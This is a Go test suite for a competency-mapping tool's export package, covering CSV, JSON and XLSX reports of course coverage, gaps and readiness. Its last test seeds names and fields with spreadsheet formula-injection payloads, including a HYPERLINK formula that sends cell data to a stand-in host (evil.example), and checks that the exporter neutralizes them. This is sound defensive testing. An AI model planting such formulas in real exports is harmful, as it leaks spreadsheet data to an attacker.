package export_test

import (
	"bytes"
	"cmap/domain"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"cmap/analysis"
	"cmap/export"
)

// The hand-built fixture. Every expected value below is reasoned out from
// this description:
//
//	course  status   covers
//	A-101   active   1.A Basic, 1.B Basic
//	A-201   active   1.A Advanced
//	R-300   retired  2.A Expert
//	N-100   active   nothing
//
//	position POS-1 (organization "EUCOM, SCO") requires 1.A Advanced, 2.A Basic
//
//	person  position  completed
//	P-1     POS-1     A-101            gaps 1.A (Advanced, has Basic), 2.A (Basic, has none)
//	P-2     none      nothing          ready, no position
//	P-3     POS-1         ready (retired courses count)
//
// The statement of 1.A holds a comma and quotes, the organization a comma,
// so that the CSV must quote them.
const statement1A = `Plans, budgets and "programs"`

func fixture(t *testing.T) *analysis.Index {
	t.Helper()
	fw := &domain.Framework{Name: "Test model", Competencies: []domain.Competency{
		{Code: "1.0", Title: "Planning", SubCompetencies: []domain.SubCompetency{
			{Code: "1.A", Statement: statement1A}, {Code: "1.B", Statement: "Budgets"}}},
		{Code: "2.0", Title: "Transfers", SubCompetencies: []domain.SubCompetency{
			{Code: "2.A", Statement: "Transfers"}}},
	}}
	course := func(code, status string) *domain.Course {
		return &domain.Course{Code: code, Title: "Course " + code, Hours: 10, DeliveryMode: domain.DeliveryOnline,
			Provider: "DSCU", Status: status}
	}
	cov := func(course, sub, level string) domain.Coverage {
		return domain.Coverage{Course: course, SubCompetency: sub, Level: level,
			Rules: []domain.RuleRef{{ID: "rule-" + course, File: "rules/courses/x.yaml", Line: 7}}}
	}
	done := time.Date(2024, 5, 1, 0, 0, 0, 0, time.UTC)
	person := func(id, pos string, courses ...string) *domain.Person {
		p := &domain.Person{ID: id, Name: "Person " + id, PositionID: pos}
		for _, c := range courses {
			p.Completions = append(p.Completions, domain.Completion{CourseCode: c, Completed: done})
		}
		return p
	}
	ix, err := analysis.Build(analysis.Snapshot{
		Framework: fw,
		Scale:     domain.DefaultScale(),
		Courses: []*domain.Course{course("N-100", domain.CourseActive), course("A-201", domain.CourseActive),
			course("A-101", domain.CourseActive), course("R-300", domain.CourseRetired)},
		Coverage: map[string][]domain.Coverage{
			"A-101": {cov("A-101", "1.A", "Basic"), cov("A-101", "1.B", "Basic")},
			"A-201": {cov("A-201", "1.A", "Advanced")},
			"R-300": {cov("R-300", "2.A", "Expert")},
		},
		Positions: []*domain.Position{{ID: "POS-1", Title: "Officer", Organization: "EUCOM, SCO", Grade: "GS-13", Category: "SCO", Region: "EUCOM"}},
		Requirements: map[string][]domain.Requirement{"POS-1": {
			{Position: "POS-1", SubCompetency: "1.A", Level: "Advanced"},
			{Position: "POS-1", SubCompetency: "2.A", Level: "Basic"}}},
		People: []*domain.Person{person("P-3", "POS-1", "A-201", "R-300"), person("P-1", "POS-1", "A-101"), person("P-2", "")},
	})
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	return ix
}

// export writes kind in format f and returns the bytes, failing the test on
// an error. It writes twice to prove the output is deterministic.
func write(t *testing.T, ix *analysis.Index, kind export.Kind, f export.Format, o export.Options) []byte {
	t.Helper()
	var first, second bytes.Buffer
	if err := export.Write(&first, ix, kind, f, o); err != nil {
		t.Fatalf("Write(%s, %s, %+v): %v", kind, f, o, err)
	}
	if err := export.Write(&second, ix, kind, f, o); err != nil {
		t.Fatalf("Write(%s, %s, %+v) again: %v", kind, f, o, err)
	}
	if !bytes.Equal(first.Bytes(), second.Bytes()) {
		if f == export.XLSX {
			t.Fatalf("Write(%s, %s) is not deterministic", kind, f)
		}
		t.Fatalf("Write(%s, %s) is not deterministic:\n%s\n---\n%s", kind, f, first.Bytes(), second.Bytes())
	}
	return first.Bytes()
}

// readTable parses CSV strictly: encoding/csv rejects rows whose number of
// fields differs from the header's (FieldsPerRecord 0), so a successful
// parse proves the table is rectangular.
func readTable(t *testing.T, data []byte) (header []string, rows [][]string) {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(data))
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("the CSV is not a well-formed table: %v\n%s", err, data)
	}
	if len(records) == 0 {
		t.Fatalf("the CSV has no header")
	}
	return records[0], records[1:]
}

func TestCoverageCSV(t *testing.T) {
	ix := fixture(t)
	header, rows := readTable(t, write(t, ix, export.KindCoverage, export.CSV, export.Options{}))
	wantHeader := []string{"subCompetency", "competency", "statement", "A-101", "A-201",
		"Basic courses", "Intermediate courses", "Advanced courses", "Expert courses", "highest"}
	if !slices.Equal(header, wantHeader) {
		t.Fatalf("header = %q, want %q (active courses with a cell, then one count per level)", header, wantHeader)
	}
	want := [][]string{
		{"1.A", "1.0", statement1A, "Basic", "Advanced", "1", "0", "1", "0", "Advanced"},
		{"1.B", "1.0", "Budgets", "Basic", "", "1", "0", "0", "0", "Basic"},
		{"2.A", "2.0", "Transfers", "", "", "0", "0", "0", "0", ""},
	}
	if !slices.EqualFunc(rows, want, slices.Equal) {
		t.Fatalf("rows = %q,\nwant %q", rows, want)
	}
}

// TestCoverageCSVMatchesMatrix checks every cell of the CSV against the
// analysis answer, for each status and minimum level.
func TestCoverageCSVMatchesMatrix(t *testing.T) {
	ix := fixture(t)
	levels := ix.Scale().Levels
	for _, status := range []string{domain.CourseActive, domain.CourseRetired, analysis.AnyStatus} {
		for _, min := range append([]string{""}, levels...) {
			o := export.Options{MinLevel: min, Status: status}
			m, err := ix.Matrix(analysis.MatrixFilter{MinLevel: min, Status: status})
			if err != nil {
				t.Fatal(err)
			}
			header, rows := readTable(t, write(t, ix, export.KindCoverage, export.CSV, o))
			if len(rows) != len(ix.Framework().SubCompetencyCodes()) {
				t.Errorf("%+v: %d rows, want one per sub-competency", o, len(rows))
			}
			if got, want := len(header), 3+len(m.Courses)+len(levels)+1; got != want {
				t.Errorf("%+v: %d columns, want %d", o, got, want)
			}
			for i, r := range m.Rows {
				if rows[i][0] != r.SubCompetency || rows[i][len(header)-1] != r.Highest {
					t.Errorf("%+v: row %d = %q, want %s with highest %q", o, i, rows[i], r.SubCompetency, r.Highest)
				}
				cells := map[string]string{}
				for _, c := range r.Cells {
					cells[c.Course] = c.Level
				}
				for j, c := range m.Courses {
					if got := rows[i][3+j]; got != cells[c.Code] {
						t.Errorf("%+v: %s x %s = %q, want %q", o, r.SubCompetency, c.Code, got, cells[c.Code])
					}
				}
				for j, n := range r.CountByLevel {
					if got := rows[i][3+len(m.Courses)+j]; got != strconv.Itoa(n) {
						t.Errorf("%+v: %s count at %s = %q, want %d", o, r.SubCompetency, levels[j], got, n)
					}
				}
			}
		}
	}
}

func TestGapsCSV(t *testing.T) {
	ix := fixture(t)
	wantHeader := []string{"kind", "level", "subCompetency", "competency", "highest", "courses", "course"}
	for _, tc := range []struct {
		level string
		want  [][]string
	}{
		// No level: the report at every level, lowest first; courses
		// covering nothing once, with no level.
		{"", [][]string{
			{"uncovered", "Basic", "2.A", "2.0", "", "0", ""},
			{"uncovered", "Intermediate", "1.B", "1.0", "Basic", "0", ""},
			{"uncovered", "Intermediate", "2.A", "2.0", "", "0", ""},
			{"uncovered", "Advanced", "1.B", "1.0", "Basic", "0", ""},
			{"uncovered", "Advanced", "2.A", "2.0", "", "0", ""},
			{"uncovered", "Expert", "1.A", "1.0", "Advanced", "0", ""},
			{"uncovered", "Expert", "1.B", "1.0", "Basic", "0", ""},
			{"uncovered", "Expert", "2.A", "2.0", "", "0", ""},
			{"covering-nothing", "", "", "", "", "", "N-100"},
		}},
		{"Basic", [][]string{
			{"uncovered", "Basic", "2.A", "2.0", "", "0", ""},
			{"covering-nothing", "Basic", "", "", "", "", "N-100"},
		}},
		{"Advanced", [][]string{
			{"uncovered", "Advanced", "1.B", "1.0", "Basic", "0", ""},
			{"uncovered", "Advanced", "2.A", "2.0", "", "0", ""},
			{"covering-nothing", "Advanced", "", "", "", "", "N-100"},
		}},
		{"Expert", [][]string{
			{"uncovered", "Expert", "1.A", "1.0", "Advanced", "0", ""},
			{"uncovered", "Expert", "1.B", "1.0", "Basic", "0", ""},
			{"uncovered", "Expert", "2.A", "2.0", "", "0", ""},
			{"covering-nothing", "Expert", "", "", "", "", "N-100"},
		}},
	} {
		header, rows := readTable(t, write(t, ix, export.KindGaps, export.CSV, export.Options{MinLevel: tc.level}))
		if !slices.Equal(header, wantHeader) {
			t.Fatalf("header = %q, want %q", header, wantHeader)
		}
		if !slices.EqualFunc(rows, tc.want, slices.Equal) {
			t.Errorf("gaps at %q = %q,\nwant %q", tc.level, rows, tc.want)
		}
	}
}

// TestGapsCSVOverServed uses a threshold of one course, so that 1.A, which
// two active courses cover at Basic or above (and one at Intermediate or
// above), is over-served at Basic only.
func TestGapsCSVOverServed(t *testing.T) {
	for _, tc := range []struct {
		level string
		want  [][]string
	}{
		{"Basic", [][]string{
			{"uncovered", "Basic", "2.A", "2.0", "", "0", ""},
			{"over-served", "Basic", "1.A", "1.0", "Advanced", "2", ""},
			{"covering-nothing", "Basic", "", "", "", "", "N-100"},
		}},
		{"", [][]string{
			{"uncovered", "Basic", "2.A", "2.0", "", "0", ""},
			{"uncovered", "Intermediate", "1.B", "1.0", "Basic", "0", ""},
			{"uncovered", "Intermediate", "2.A", "2.0", "", "0", ""},
			{"uncovered", "Advanced", "1.B", "1.0", "Basic", "0", ""},
			{"uncovered", "Advanced", "2.A", "2.0", "", "0", ""},
			{"uncovered", "Expert", "1.A", "1.0", "Advanced", "0", ""},
			{"uncovered", "Expert", "1.B", "1.0", "Basic", "0", ""},
			{"uncovered", "Expert", "2.A", "2.0", "", "0", ""},
			{"over-served", "Basic", "1.A", "1.0", "Advanced", "2", ""},
			{"covering-nothing", "", "", "", "", "", "N-100"},
		}},
	} {
		_, rows := readTable(t, write(t, fixture(t), export.KindGaps, export.CSV, export.Options{MinLevel: tc.level, OverServedAbove: 1}))
		if !slices.EqualFunc(rows, tc.want, slices.Equal) {
			t.Errorf("over-served above 1 at %q: rows = %q,\nwant %q", tc.level, rows, tc.want)
		}
	}
}

func TestParseOverServedAbove(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want int
	}{{"", 0}, {"1", 1}, {"25", 25}} {
		if got, err := export.ParseOverServedAbove(tc.in); got != tc.want || err != nil {
			t.Errorf("ParseOverServedAbove(%q) = %d, %v; want %d", tc.in, got, err, tc.want)
		}
	}
	for _, in := range []string{"0", "-3", "ten", "2.5"} {
		_, err := export.ParseOverServedAbove(in)
		want := `overServedAbove: "` + in + `" is not a number of courses: want a whole number of 1 or more`
		if err == nil || err.Error() != want || domain.ErrorCode(err) != domain.EINVALID {
			t.Errorf("ParseOverServedAbove(%q) = %v, want %s", in, err, want)
		}
	}
}

func TestReadinessCSV(t *testing.T) {
	header, rows := readTable(t, write(t, fixture(t), export.KindReadiness, export.CSV, export.Options{}))
	wantHeader := []string{"id", "name", "position", "organization", "hasPosition", "ready", "requirements", "gapCount", "gaps"}
	if !slices.Equal(header, wantHeader) {
		t.Fatalf("header = %q, want %q", header, wantHeader)
	}
	want := [][]string{
		{"P-1", "Person P-1", "POS-1", "EUCOM, SCO", "true", "false", "2", "2", "1.A:Advanced<Basic; 2.A:Basic"},
		{"P-2", "Person P-2", "", "", "false", "true", "0", "0", ""},
		{"P-3", "Person P-3", "POS-1", "EUCOM, SCO", "true", "true", "2", "0", ""},
	}
	if !slices.EqualFunc(rows, want, slices.Equal) {
		t.Errorf("rows = %q,\nwant %q", rows, want)
	}
}

// decode parses a JSON export into generic values, so that the test sees
// the field names a client sees.
func decode(t *testing.T, data []byte) map[string]any {
	t.Helper()
	var doc map[string]any
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatalf("invalid JSON: %v\n%s", err, data)
	}
	return doc
}

// canonical re-encodes v with sorted keys and no spaces for comparison.
func canonical(t *testing.T, v any) string {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestCoverageJSON(t *testing.T) {
	doc := decode(t, write(t, fixture(t), export.KindCoverage, export.JSON, export.Options{}))
	if got, want := canonical(t, doc["levels"]), `["Basic","Intermediate","Advanced","Expert"]`; got != want {
		t.Errorf("levels = %s, want %s", got, want)
	}
	if got, want := canonical(t, doc["courses"]), `[{"code":"A-101","hours":10,"provider":"DSCU","status":"active","title":"Course A-101"},`+
		`{"code":"A-201","hours":10,"provider":"DSCU","status":"active","title":"Course A-201"}]`; got != want {
		t.Errorf("courses = %s,\nwant %s", got, want)
	}
	rows, _ := doc["rows"].([]any)
	if len(rows) != 3 {
		t.Fatalf("%d rows, want 3", len(rows))
	}
	wantRows := []string{
		`{"cells":[{"course":"A-101","level":"Basic","rules":[{"file":"rules/courses/x.yaml","id":"rule-A-101","line":7}]},` +
			`{"course":"A-201","level":"Advanced","rules":[{"file":"rules/courses/x.yaml","id":"rule-A-201","line":7}]}],` +
			`"competency":"1.0","countByLevel":[{"courses":1,"level":"Basic"},{"courses":0,"level":"Intermediate"},` +
			`{"courses":1,"level":"Advanced"},{"courses":0,"level":"Expert"}],"highest":"Advanced",` +
			`"statement":"Plans, budgets and \"programs\"","subCompetency":"1.A"}`,
		`{"cells":[{"course":"A-101","level":"Basic","rules":[{"file":"rules/courses/x.yaml","id":"rule-A-101","line":7}]}],` +
			`"competency":"1.0","countByLevel":[{"courses":1,"level":"Basic"},{"courses":0,"level":"Intermediate"},` +
			`{"courses":0,"level":"Advanced"},{"courses":0,"level":"Expert"}],"highest":"Basic",` +
			`"statement":"Budgets","subCompetency":"1.B"}`,
		`{"cells":[],"competency":"2.0","countByLevel":[{"courses":0,"level":"Basic"},{"courses":0,"level":"Intermediate"},` +
			`{"courses":0,"level":"Advanced"},{"courses":0,"level":"Expert"}],"highest":null,` +
			`"statement":"Transfers","subCompetency":"2.A"}`,
	}
	for i, want := range wantRows {
		if got := canonical(t, rows[i]); got != want {
			t.Errorf("row %d = %s,\nwant %s", i, got, want)
		}
	}
}

func TestGapsJSON(t *testing.T) {
	doc := decode(t, write(t, fixture(t), export.KindGaps, export.JSON, export.Options{MinLevel: "advanced"}))
	want := `{"coveringNothing":["N-100"],"level":"Advanced","overServed":[],"overServedAbove":10,"uncovered":[` +
		`{"competency":"1.0","courses":0,"highest":"Basic","level":"Advanced","subCompetency":"1.B"},` +
		`{"competency":"2.0","courses":0,"highest":null,"level":"Advanced","subCompetency":"2.A"}]}`
	if got := canonical(t, doc); got != want {
		t.Errorf("gaps = %s,\nwant %s", got, want)
	}

	// Every level: the document's level is null, each finding has one.
	doc = decode(t, write(t, fixture(t), export.KindGaps, export.JSON, export.Options{OverServedAbove: 1}))
	want = `{"coveringNothing":["N-100"],"level":null,` +
		`"overServed":[{"competency":"1.0","courses":2,"highest":"Advanced","level":"Basic","subCompetency":"1.A"}],` +
		`"overServedAbove":1,"uncovered":[` +
		`{"competency":"2.0","courses":0,"highest":null,"level":"Basic","subCompetency":"2.A"},` +
		`{"competency":"1.0","courses":0,"highest":"Basic","level":"Intermediate","subCompetency":"1.B"},` +
		`{"competency":"2.0","courses":0,"highest":null,"level":"Intermediate","subCompetency":"2.A"},` +
		`{"competency":"1.0","courses":0,"highest":"Basic","level":"Advanced","subCompetency":"1.B"},` +
		`{"competency":"2.0","courses":0,"highest":null,"level":"Advanced","subCompetency":"2.A"},` +
		`{"competency":"1.0","courses":0,"highest":"Advanced","level":"Expert","subCompetency":"1.A"},` +
		`{"competency":"1.0","courses":0,"highest":"Basic","level":"Expert","subCompetency":"1.B"},` +
		`{"competency":"2.0","courses":0,"highest":null,"level":"Expert","subCompetency":"2.A"}]}`
	if got := canonical(t, doc); got != want {
		t.Errorf("gaps at every level = %s,\nwant %s", got, want)
	}
}

func TestReadinessJSON(t *testing.T) {
	doc := decode(t, write(t, fixture(t), export.KindReadiness, export.JSON, export.Options{}))
	want := `{"people":[` +
		`{"gaps":[{"attained":"Basic","required":"Advanced","subCompetency":"1.A"},{"attained":null,"required":"Basic","subCompetency":"2.A"}],` +
		`"hasPosition":true,"id":"P-1","name":"Person P-1","organization":"EUCOM, SCO","positionId":"POS-1","ready":false,"requirements":2},` +
		`{"gaps":[],"hasPosition":false,"id":"P-2","name":"Person P-2","organization":null,"positionId":null,"ready":true,"requirements":0},` +
		`{"gaps":[],"hasPosition":true,"id":"P-3","name":"Person P-3","organization":"EUCOM, SCO","positionId":"POS-1","ready":true,"requirements":2}]}`
	if got := canonical(t, doc); got != want {
		t.Errorf("readiness = %s,\nwant %s", got, want)
	}
}

// TestWriteRejectsBadOptions checks that a level off the scale fails with
// EINVALID naming the field, before anything is written.
func TestWriteRejectsBadOptions(t *testing.T) {
	ix := fixture(t)
	for _, tc := range []struct {
		kind  export.Kind
		o     export.Options
		field string
	}{
		{export.KindCoverage, export.Options{MinLevel: "Master"}, "minLevel"},
		{export.KindCoverage, export.Options{Status: "draft"}, "status"},
		{export.KindGaps, export.Options{MinLevel: "Master"}, "minLevel"},
		{export.KindGaps, export.Options{OverServedAbove: -1}, "overServedAbove"},
	} {
		var buf bytes.Buffer
		err := export.Write(&buf, ix, tc.kind, export.CSV, tc.o)
		if domain.ErrorCode(err) != domain.EINVALID || domain.ErrorField(err) != tc.field {
			t.Errorf("Write(%s, %+v) = %v (code %q, field %q), want EINVALID on %q",
				tc.kind, tc.o, err, domain.ErrorCode(err), domain.ErrorField(err), tc.field)
		}
		if want := `minLevel: level "Master" is not on the scale (Basic, Intermediate, Advanced, Expert)`; tc.o.MinLevel != "" && err.Error() != want {
			t.Errorf("Write(%s, %+v) = %q, want %q", tc.kind, tc.o, err, want)
		}
		if buf.Len() != 0 {
			t.Errorf("Write(%s, %+v) wrote %q before failing", tc.kind, tc.o, buf.String())
		}
	}
	if err := export.Write(new(bytes.Buffer), ix, "matrix", export.CSV, export.Options{}); domain.ErrorField(err) != "kind" {
		t.Errorf("Write(matrix) = %v, want EINVALID on kind", err)
	}
	var buf bytes.Buffer
	if err := export.Write(&buf, ix, export.KindCatalogue, export.CSV, export.Options{}); domain.ErrorField(err) != "format" || buf.Len() != 0 {
		t.Errorf("Write(catalogue, csv) = %v after writing %d bytes, want EINVALID on format before writing", err, buf.Len())
	}
}

func TestParse(t *testing.T) {
	for in, want := range map[string]export.Format{"csv": export.CSV, "JSON": export.JSON, "xlsx": export.XLSX, "XLSX": export.XLSX} {
		if got, err := export.ParseFormat(in); err != nil || got != want {
			t.Errorf("ParseFormat(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	if _, err := export.ParseFormat("ods"); domain.ErrorCode(err) != domain.EINVALID || !strings.Contains(err.Error(), `"ods"`) {
		t.Errorf("ParseFormat(ods) = %v, want EINVALID naming it", err)
	}
	for _, k := range export.Kinds {
		if got, err := export.ParseKind(string(k)); err != nil || got != k {
			t.Errorf("ParseKind(%q) = %q, %v", k, got, err)
		}
	}
	if _, err := export.ParseKind("matrix"); domain.ErrorField(err) != "kind" {
		t.Errorf("ParseKind(matrix) = %v, want EINVALID on kind", err)
	}
	if got := export.JSON.ContentType(); got != "application/json" {
		t.Errorf("JSON content type = %q", got)
	}
	if got := export.CSV.ContentType(); !strings.HasPrefix(got, "text/csv") {
		t.Errorf("CSV content type = %q", got)
	}
	if got := export.XLSX.ContentType(); got != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
		t.Errorf("XLSX content type = %q", got)
	}
}

// hostileIndex is a model of one sub-competency whose texts, and the
// names and organizations of its people, start as spreadsheet formulas do
// (the organization through the position).
func hostileIndex(t *testing.T) *analysis.Index {
	t.Helper()
	names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "@cmd", "\tTab", "Ada = Lovelace", "'=quoted"}
	orgs := []string{"+SUM(A1:A9)", "-2+3", "\rReturn", "ODC Poland", "''-x"}
	snap := analysis.Snapshot{
		Framework: &domain.Framework{Name: "=Model", Competencies: []domain.Competency{{Code: "1.0", Title: "One",
			SubCompetencies: []domain.SubCompetency{{Code: "1.A", Statement: "-Negotiate"}}}}},
		Scale:    domain.DefaultScale(),
		Courses:  []*domain.Course{{Code: "A-101", Title: "=1+1", Hours: 4, DeliveryMode: domain.DeliveryOnline, Status: domain.CourseActive, Provider: "@school"}},
		Coverage: map[string][]domain.Coverage{"A-101": {{Course: "A-101", SubCompetency: "1.A", Level: "Basic"}}},
	}
	for i := range names {
		id := "POS-" + strconv.Itoa(i+1)
		snap.Positions = append(snap.Positions, &domain.Position{ID: id, Title: "\t-Officer", Organization: orgs[i], Grade: "GS-13", Category: "=SCO", Region: "+EUCOM"})
		snap.People = append(snap.People, &domain.Person{ID: "P-" + strconv.Itoa(i+1), Name: names[i], PositionID: id})
	}
	ix, err := analysis.Build(snap)
	if err != nil {
		t.Fatal(err)
	}
	return ix
}

// readCSV parses a CSV export.
func readCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// TestFormulasAreNeutralized: in CSV, a text cell a spreadsheet would take
// for a formula (starting with =, +, -, @, a tab or a carriage return) is
// written with a quote before it, and one that starts with quotes before
// such a character gets one more; other text and the numeric columns are
// written as they are.
func TestFormulasAreNeutralized(t *testing.T) {
	t.Parallel()
	ix := hostileIndex(t)
	rows := readCSV(t, write(t, ix, export.KindReadiness, export.CSV, export.Options{}))
	want := [][2]string{
		{`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "'+SUM(A1:A9)"},
		{"'@cmd", "'-2+3"},
		{"'\tTab", "'\rReturn"},
		{"Ada = Lovelace", "ODC Poland"},
		{"''=quoted", "'''-x"},
	}
	for i, w := range want {
		if got := [2]string{rows[i+1][1], rows[i+1][3]}; got != w {
			t.Errorf("row %d: name and organization %q, want %q", i+1, got, w)
		}
	}
	if got := rows[1][6]; got != "0" {
		t.Errorf("the numeric column requirements holds %q, want 0 as it is", got)
	}
	if got := readCSV(t, write(t, ix, export.KindCoverage, export.CSV, export.Options{}))[1][2]; got != "'-Negotiate" {
		t.Errorf("coverage statement %q, want '-Negotiate", got)
	}
	positions := readCSV(t, write(t, ix, export.KindPositions, export.CSV, export.Options{}))
	if got, want := positions[1][1:7], []string{"'\t-Officer", "'+SUM(A1:A9)", "GS-13", "'=SCO", "false", "'+EUCOM"}; !slices.Equal(got, want) {
		t.Errorf("position row %q, want %q", got, want)
	}
}
